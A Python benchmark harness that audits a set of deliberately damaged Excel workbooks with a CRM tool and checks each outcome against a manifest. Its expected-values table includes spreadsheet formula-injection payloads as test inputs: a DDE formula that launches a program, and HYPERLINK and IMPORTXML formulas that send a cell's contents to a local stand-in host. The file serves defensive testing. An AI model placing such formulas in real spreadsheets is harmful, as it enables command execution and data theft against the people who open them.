"""Damaged workbooks are audited by the real command, one by one, and what was expected stands beside what happened.

python -m benchmarks.hostile FOLDER

FOLDER holds small Deals sheets, each damaged in one way, ok_base.xlsx as the sound one, and a MANIFEST.json that says
for each file REFUSE, ACCEPT or WARN, and why. Exit code 1 if any file ends otherwise.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Mapping
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, NamedTuple

import openpyxl

from sheets_crm.book import read_book, wanted
from sheets_crm.hosts.xlsx import XlsxHost

AS_OF = "2026-05-19"
MOST_SECONDS = 20.0
MOST_MB = 1024.0
FIELDS = ("deal_id", "owner", "name", "stage", "amount", "expected_close", "next_step")
"""The columns A to G of every sheet."""


class Case(NamedTuple):
    """A file, what has to become of it, and its damage."""

    path: Path
    expect: str
    why: str


class Outcome(NamedTuple):
    """How the command ended on a copy of a file."""

    exit_code: int
    stdout: str
    stderr: str
    untouched: bool
    """Neither a byte of the copy changed nor a file beside it."""
    seconds: float = 0
    mb: float = 0
    """Peak memory."""


DAMAGED: Mapping[str, tuple[str, Any, str]] = {
    "cell_num_nan.xlsx": ("E2", None, "NaN is no sum"),
    "cell_num_arabic.xlsx": ("E2", None, "Excel writes no such digits, so the cell was made by something else"),
    "cell_num_17digits.xlsx": ("E2", None, "the last digits are not those that were typed"),
    "cell_num_neg0.xlsx": ("E2", Decimal(0), "minus nought is nought"),
    "cell_err_unknown.xlsx": ("E2", None, "an error is no sum"),
    "cell_err_spill.xlsx": ("E2", None, "an error is no sum"),
    "cell_formula_shared_orphan.xlsx": ("E2", None, "Excel drops the formula and the 5 with it"),
    "cell_formula_array_noref.xlsx": ("E2", None, "the stored 5 is not the formula's 1"),
    "cell_date_huge.xlsx": ("F2", None, "no such day"),
    "cell_date_neg.xlsx": ("F2", None, "no such day"),
    "cell_date_60.xlsx": ("F2", None, "29 February 1900 never was"),
    "cell_date_iso.xlsx": ("F2", date(2025, 6, 1), "ISO 8601 can mean one day only"),
    "cell_date_iso_bad.xlsx": ("F2", None, "no such day"),
    "cell_date_text_dmy.xlsx": ("F2", None, "3 April or 4 March"),
    "cell_style_oob.xlsx": ("E2", Decimal(5), "the number stands there, only its format is lost"),
    "cell_text_40k.xlsx": ("E2", None, "text is no sum"),
    "cell_text_ctrl.xlsx": ("E2", None, "text is no sum"),
    "cell_text_rtl_spoof.xlsx": ("E2", None, "text is no sum"),
    "cell_text_nbsp_id.xlsx": ("A2", "OPP-0002", "what a person reads there; DQ01 names both rows"),
    "cell_text_homoglyph_rep.xlsx": ("B2", "\u0410na", "as it was typed: nobody is renamed unasked"),
    "cell_id_float.xlsx": ("A2", "1234", "what Excel shows, not 1234.0"),
    "cell_id_sci.xlsx": ("A2", None, "the last digits are lost"),
    "cell_inj_dde.xlsx": ("C2", "=cmd|' /C calc'!A0", "text, as it was typed"),
    "cell_inj_hyperlink.xlsx": ("C2", '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Pay")', "text, as it was typed"),
    "cell_inj_importxml.xlsx": ("C2", '=IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")', "text, as it was typed"),
    "cell_inj_plus.xlsx": ("C2", "+1+cmd", "text, as it was typed"),
    "cell_inj_fullwidth.xlsx": ("C2", "\uff1d1+1", "text, as it was typed"),
    "merge_overlap.xlsx": ("B2", "Bo", "the stored values are whole; the merge only hides them"),
}  # fmt: skip
"""Where the damage itself changes a value: the cell, the value that is right there (None = none), and why."""

SAID: Mapping[str, str] = {
    "merge_whole_cols.xlsx": r"the merged cells H1:Q1048576 stand beside the table",
    "merge_header.xlsx": r"merged cells B1:C1",
    "wb_protected.xlsx": r"structure of the workbook is protected",
    "sheet_protected.xlsx": r"Sheet “Deals” is protected",
    "wb_readonly_recommended.xlsx": r"asks to be opened read-only",
}
"""What stderr has to say where a warning has no cell to stand on."""


def cases(folder: Path) -> list[Case]:
    """The files of a folder, in the order of its manifest."""
    manifest = json.loads((folder / "MANIFEST.json").read_text("utf-8"))
    return [Case(folder / file, about["expect"], about["why"]) for file, about in manifest.items()]


_WATCH = f"""
import resource, subprocess, sys
try:
    code = subprocess.run(sys.argv[2:], timeout={2 * MOST_SECONDS}).returncode
except subprocess.TimeoutExpired:
    code = 124
with open(sys.argv[1], "w") as peak:
    peak.write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
sys.exit(code)
"""
"""A small process between us and the command: the peak of a child is never told as less than its parent's."""


def audited(path: Path) -> Outcome:
    """The command in a process of its own, on a copy of the file; it is killed if it takes far too long."""
    with tempfile.TemporaryDirectory() as folder, tempfile.TemporaryDirectory() as notes:
        copy, peak = Path(shutil.copyfile(path, Path(folder, path.name))), Path(notes, "peak")
        command = (
            sys.executable,
            "-m",
            "sheets_crm",
            "audit",
            str(copy),
            "--as-of",
            AS_OF,
            "--format",
            "json",
        )
        began = time.monotonic()
        done = subprocess.run(
            [sys.executable, "-c", _WATCH, str(peak), *command], capture_output=True, check=False,
            env={**os.environ, "LC_ALL": "C.UTF-8", "NO_COLOR": "1"},
        )  # fmt: skip
        seconds = time.monotonic() - began
        out, err = (stream.decode("utf-8", "replace") for stream in (done.stdout, done.stderr))
        mb = int(peak.read_text()) / (1 << 20 if sys.platform == "darwin" else 1 << 10)
        return Outcome(done.returncode, out, err, is_untouched(path, copy), seconds, mb)


def is_untouched(path: Path, copy: Path) -> bool:
    """Whether a copy, alone in its folder, is still what it was copied from."""
    return [*copy.parent.iterdir()] == [copy] and copy.read_bytes() == path.read_bytes()


def faults(case: Case, outcome: Outcome) -> Iterator[str]:
    """Everything that is not as expected."""
    if outcome.seconds > MOST_SECONDS:
        yield f"took {outcome.seconds:.0f} s"
    if outcome.mb > MOST_MB:
        yield f"took {outcome.mb:.0f} MB"
    if "Traceback" in outcome.stderr:
        yield "a traceback"
    if case.expect == "REFUSE":
        yield from _not_refused(outcome)
    elif outcome.exit_code not in (0, 1):
        yield f"exit code {outcome.exit_code}: {outcome.stderr.strip()}"
    else:
        yield from _misread(case.path)
        if case.expect == "WARN":
            yield from _unwarned(case.path.name, outcome)


def _not_refused(outcome: Outcome) -> Iterator[str]:
    if outcome.exit_code != 2:
        yield f"exit code {outcome.exit_code}"
    if not outcome.untouched:
        yield "the file or its folder was changed"
    if outcome.stdout:
        yield "an answer on stdout"
    if not re.fullmatch(r"[^\n]+\.\n", outcome.stderr):
        yield f"not one sentence: {outcome.stderr!r}"


def _misread(path: Path) -> Iterator[str]:
    """Cells whose values are not those of the sound sheet, but for the damage."""
    right = sound(path.with_name("ok_base.xlsx"))
    if path.name in DAMAGED:
        place, value, _ = DAMAGED[path.name]
        right[int(place[1:]) - 2][ord(place[0]) - ord("A")] = value
    read = [
        [getattr(deal, field) for field in FIELDS]
        for deal in read_book(XlsxHost(path).read(wanted)).deals.rows
    ]
    if len(read) != len(right):
        yield f"{len(read)} of {len(right)} rows"
    for number, (got, expected) in enumerate(zip(read, right, strict=False), start=2):
        for letter, one, other in zip("ABCDEFG", got, expected, strict=True):
            if (one, type(one)) != (other, type(other)):
                yield f"{letter}{number} is {one!r}, not {other!r}"


def sound(path: Path) -> list[list[Any]]:
    """The rows of the sound sheet by another reader, as the house types them."""
    return [
        [_typed(value) for value in row]
        for row in openpyxl.load_workbook(path, data_only=True)["Deals"].iter_rows(2, values_only=True)
    ]


def _typed(value: Any) -> Any:
    if isinstance(value, datetime):
        return value.date()
    return Decimal(str(value)) if isinstance(value, int | float) else value


def _unwarned(file: str, outcome: Outcome) -> Iterator[str]:
    if file in SAID:
        if not re.search(SAID[file], outcome.stderr):
            yield f"stderr does not say “{SAID[file]}”"
        return
    cell = f"Deals!{DAMAGED[file][0]}"
    if not any(f["rule"] == "DQ02" and f["cell"] == cell for f in json.loads(outcome.stdout)["findings"]):
        yield f"no DQ02 at {cell}"


def main() -> int:
    """Prints the table; 1 if anything is not as expected."""
    if len(sys.argv) != 2:
        print(__doc__)
        return 2
    wrong, slowest, largest, found = 0, 0.0, 0.0, cases(Path(sys.argv[1]))
    print(f"{'file':38} {'expected':8} {'exit':>4} {'s':>5} {'MB':>5}  got")
    for case in found:
        outcome = audited(case.path)
        bad = list(faults(case, outcome))
        wrong, slowest, largest = wrong + bool(bad), max(slowest, outcome.seconds), max(largest, outcome.mb)
        print(
            f"{case.path.name:38} {case.expect:8} {outcome.exit_code:4} {outcome.seconds:5.1f} {outcome.mb:5.0f}  "
            + ("; ".join(bad) or "as expected"),
            flush=True,
        )
    print(
        f"{len(found)} files, {wrong} not as expected; the slowest {slowest:.1f} s, the largest {largest:.0f} MB"
    )
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
